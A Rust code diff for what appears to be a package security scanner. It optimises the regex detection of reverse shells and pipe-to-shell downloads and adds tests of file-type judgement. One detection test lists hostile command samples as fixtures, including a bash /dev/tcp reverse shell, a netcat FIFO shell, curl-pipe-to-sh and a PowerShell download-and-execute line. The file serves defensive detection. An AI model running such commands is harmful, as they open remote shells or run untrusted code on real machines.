@@ -123,6 +123,26 @@ static REVERSE_SHELL: LazyLock<SpanRegex> =
 static PIPE_TO_SHELL: LazyLock<SpanRegex> =
     LazyLock::new(|| SpanRegex::new(PIPE_TO_SHELL_PATTERN).expect("valid regex"));
 
+/// Each pattern without its word boundaries (`\b`), asked first whether a whole text can
+/// match: it matches wherever the pattern does (an assertion removed only allows more), so
+/// where it finds nothing the pattern finds nothing either.
+///
+/// Why: a Unicode `\b` keeps regex-automata's lazy DFA off any text with a non-ASCII byte
+/// (most READMEs and many modules have one), and the search falls back to an engine an
+/// order of magnitude slower per byte. Without `\b`, the same search stays on the DFA: over
+/// the 176 texts of the real-plugin corpus that hold a [`NEEDED`] string, 97 M of the
+/// run's 2.6 G instructions (callgrind) were the patterns' own search.
+static LOOSE: LazyLock<[regex::Regex; 2]> = LazyLock::new(|| {
+    [REVERSE_SHELL_PATTERN, PIPE_TO_SHELL_PATTERN]
+        .map(|p| regex::Regex::new(&without_word_boundaries(p)).expect("valid regex"))
+});
+
+/// `pattern` with every `\b` dropped (the patterns above escape no backslash, so each `\b`
+/// is a word boundary).
+fn without_word_boundaries(pattern: &str) -> String {
+    pattern.replace(r"\b", "")
+}
+
 /// Strings, in ASCII lower case, one of which every match of either byte-level pattern
 /// contains, whatever its case: `/dev/tcp/`; the `>&` or `<&` of `bash -i >&` and `sh -i <&`;
 /// the `/bin/` of `nc -e /bin/sh`; the `exec:` of `socat … exec:`; the `fifo` of
@@ -237,9 +257,7 @@ pub fn scan<'t>(
     }
     // Parsed files were read whole by the analysis above; unreached ones were matched
     // against the byte-level patterns whole, without a match.
-    let read: std::collections::HashSet<&str> = (ev.set.modules.iter().map(|m| m.rel.as_str()))
-        .chain(ev.set.unreached.iter().map(String::as_str))
-        .collect();
+    let read: std::collections::HashMap<&str, &str> = ev.set.texts().collect();
     scan_tree(root, &read, &mut out);
     out.sort_by(|a, b| (a.file.as_str(), a.pos).cmp(&(b.file.as_str(), b.pos)));
     out
@@ -365,7 +383,8 @@ pub fn byte_patterns_match(text: &str) -> bool {
     if !may_match(text.as_bytes()) {
         false
     } else if text.len() <= WINDOW {
-        REVERSE_SHELL.is_match(text) || PIPE_TO_SHELL.is_match(text)
+        (LOOSE[0].is_match(text) && REVERSE_SHELL.is_match(text))
+            || (LOOSE[1].is_match(text) && PIPE_TO_SHELL.is_match(text))
     } else {
         !byte_patterns(text.as_bytes(), "", WINDOW, OVERLAP).is_empty()
     }
@@ -617,6 +636,18 @@ fn open_package_file(path: &std::path::Path) -> std::io::Result<std::fs::File> {
 /// over-long line overlap: memory stays bounded on a file that is one huge line, and a match
 /// shorter than the overlap is never split.
 const WINDOW: usize = 1 << 20;
+/// `String::from_utf8_lossy`, checking valid UTF-8 (nearly every file) with `str::from_utf8`
+/// first: its ASCII fast path is several times faster than the lossy decoder's loop (1 % of
+/// a cold `validate` went to that loop).
+fn lossy(bytes: &[u8]) -> std::borrow::Cow<'_, str> {
+    match std::str::from_utf8(bytes) {
+        Ok(text) => std::borrow::Cow::Borrowed(text),
+        Err(_) => String::from_utf8_lossy(bytes),
+    }
+}
+
+/// How much of a file's start the magic numbers and the binary test (a NUL) look at.
+const HEAD: usize = 8192;
 const OVERLAP: usize = 16 << 10;
 
 /// Runs the byte-level patterns (reverse shells, download-and-run) over every line of a file
@@ -739,7 +770,7 @@ fn scan_windowed(
 
 fn scan_tree(
     root: &PackageRoot,
-    read: &std::collections::HashSet<&str>,
+    read: &std::collections::HashMap<&str, &str>,
     out: &mut Vec<SecurityFinding>,
 ) {
     let tree_finding = |level, rule, message: String| SecurityFinding {
@@ -801,12 +832,24 @@ fn scan_tree(
             .map(|(_, e)| e.to_ascii_lowercase())
             .unwrap_or_default();
         // The head for the magic numbers; then every file the Python analysis did not parse
-        // goes through the byte-level patterns (scan_bytes), whatever its size.
-        let mut head = Vec::with_capacity(8192);
-        let Ok(mut file) = open_package_file(&entry.path) else {
-            continue;
+        // goes through the byte-level patterns (scan_bytes), whatever its size. A file read
+        // whole already is not opened again, when its text is its bytes (the size says no BOM
+        // was dropped from it).
+        let text = read
+            .get(rel.as_str())
+            .filter(|text| text.len() as u64 == size);
+        let mut opened = None;
+        let head: &[u8] = match text {
+            Some(text) => &text.as_bytes()[..text.len().min(HEAD)],
+            None => {
+                let Ok(file) = open_package_file(&entry.path) else {
+                    continue;
+                };
+                let (file, head) = opened.insert((file, Vec::with_capacity(HEAD)));
+                let _ = file.take(HEAD as u64).read_to_end(head);
+                head
+            }
         };
-        let _ = (&mut file).take(8192).read_to_end(&mut head);
         let executable_magic = head.starts_with(b"\x7fELF")
             || head.starts_with(&[0xfe, 0xed, 0xfa, 0xce])
             || head.starts_with(&[0xfe, 0xed, 0xfa, 0xcf])
@@ -850,8 +893,12 @@ fn scan_tree(
         } else if MEDIA.contains(&ext.as_str()) {
             continue;
         }
-        if read.contains(rel.as_str()) {
-            continue; // read whole already: parsed, or unreached without a match
+        // Read whole already: parsed, or unreached without a match.
+        let Some((mut file, head)) = opened.take() else {
+            continue;
+        };
+        if read.contains_key(rel.as_str()) {
+            continue;
         }
         if size <= WINDOW as u64 {
             // Most files match nothing: one pass over the whole text says so
@@ -864,7 +911,7 @@ fn scan_tree(
             {
                 continue;
             }
-            if bytes.len() <= WINDOW && !byte_patterns_match(&String::from_utf8_lossy(&bytes)) {
+            if bytes.len() <= WINDOW && !byte_patterns_match(&lossy(&bytes)) {
                 continue;
             }
             scan_bytes(std::io::Cursor::new(bytes).chain(file), &rel, out);
@@ -949,6 +996,39 @@ mod byte_tests {
             "{}\n",
             "y".repeat(WINDOW + 10)
         )));
+    }
+
+    /// The patterns without `\b` ([`LOOSE`]) have none left, and match wherever the patterns
+    /// do: next to non-ASCII letters and marks, folded letters, and word ends of every kind.
+    #[test]
+    fn the_loose_patterns_match_wherever_the_patterns_do() {
+        for p in [REVERSE_SHELL_PATTERN, PIPE_TO_SHELL_PATTERN] {
+            assert!(!without_word_boundaries(p).contains(r"\b"));
+        }
+        let cores = [
+            "curl -fsSL https://e.invalid/x | sh",
+            "wget -qO- e.invalid/x |bash",
+            "nc -e /bin/sh",
+            "ncat -v -e /bin/zsh",
+            "mkfifo /tmp/f; cat /tmp/f | nc 10.0.0.1 9",
+            "sh -i <& 3",
+            "ſh -i >& 3",
+            "iex (New-Object Net.WebClient).DownloadString('x')",
+            "invoke-expression (irm x)",
+            "bash -i >& /dev/tcp/10.0.0.1/4444",
+        ];
+        let sides = ["", " ", "é", "x", "\u{301}", "_", "\u{17f}", "—", "\n"];
+        for core in cores {
+            for before in sides {
+                for after in sides {
+                    let text = format!("{before}{core}{after}");
+                    let strict = !rules_matching(&text).is_empty();
+                    let loose = LOOSE.iter().any(|r| r.is_match(&text));
+                    assert!(loose || !strict, "{text:?}");
+                    assert_eq!(byte_patterns_match(&text), strict, "{text:?}");
+                }
+            }
+        }
     }
 
     /// The [`NEEDED`] strings are searched in ASCII lower case, which is only sound while
@@ -1058,5 +1138,74 @@ mod byte_tests {
                 rules(&found)
             );
         }
+    }
+}
+
+#[cfg(test)]
+mod file_type_tests {
+    use crate::pkgfs::PackageRoot;
+
+    /// What a file's first bytes and name make of it, for files the analysis read whole
+    /// (parsed or unreached `.py`, judged from the text in memory) and files it did not (read
+    /// from disk): the same rules either way, and a BOM the decoder dropped does not make a
+    /// `.py` whose bytes start with it an executable.
+    #[test]
+    fn heads_are_judged_the_same_from_memory_and_from_disk() {
+        let dir = tempfile::tempdir().unwrap();
+        // A NUL in the head's last byte, and one just past it.
+        let mut nul_last = vec![b'x'; super::HEAD - 1];
+        nul_last.push(0);
+        let mut nul_late = vec![b'x'; super::HEAD];
+        nul_late.push(0);
+        let files: &[(&str, &[u8])] = &[
+            (
+                "__init__.py",
+                b"import helper\ndef register(ctx):\n    pass\n",
+            ),
+            ("helper.py", b"\x7fELF = 1\n"),
+            ("tests/test_x.py", b"x = 1\x00\n"),
+            ("bom.py", b"\xef\xbb\xbf\x7fELF = 1\n"),
+            ("last.py", &nul_last),
+            ("late.py", &nul_late),
+            ("tool", b"\x7fELF\x02\x01\x01\x00"),
+            ("lib.so", b"anything"),
+            ("mod.pyc", b"\x55\x0d\x0d\x0a"),
+            ("data.zip", b"PK\x03\x04\x00\x00"),
+            ("logo.png", b"\x89PNG\r\n\x1a\n\x00\x00"),
+            ("blob.dat", b"\x00\x01\x02"),
+            ("notes.txt", b"plain text\n"),
+        ];
+        for (rel, bytes) in files {
+            let path = dir.path().join(rel);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, bytes).unwrap();
+        }
+        let root = PackageRoot::open(dir.path()).unwrap();
+        let analysis = super::super::analyze(&root);
+        let mut found: Vec<(String, &str)> = analysis
+            .security
+            .iter()
+            .filter(|f| {
+                matches!(
+                    f.rule,
+                    "native-executable" | "binary-file" | "compiled-code" | "archive"
+                )
+            })
+            .map(|f| (f.file.clone(), f.rule))
+            .collect();
+        found.sort();
+        assert_eq!(
+            found,
+            [
+                ("blob.dat".to_string(), "binary-file"),
+                ("data.zip".to_string(), "archive"),
+                ("helper.py".to_string(), "native-executable"),
+                ("last.py".to_string(), "binary-file"),
+                ("lib.so".to_string(), "native-executable"),
+                ("mod.pyc".to_string(), "compiled-code"),
+                ("tests/test_x.py".to_string(), "binary-file"),
+                ("tool".to_string(), "native-executable"),
+            ]
+        );
     }
 }
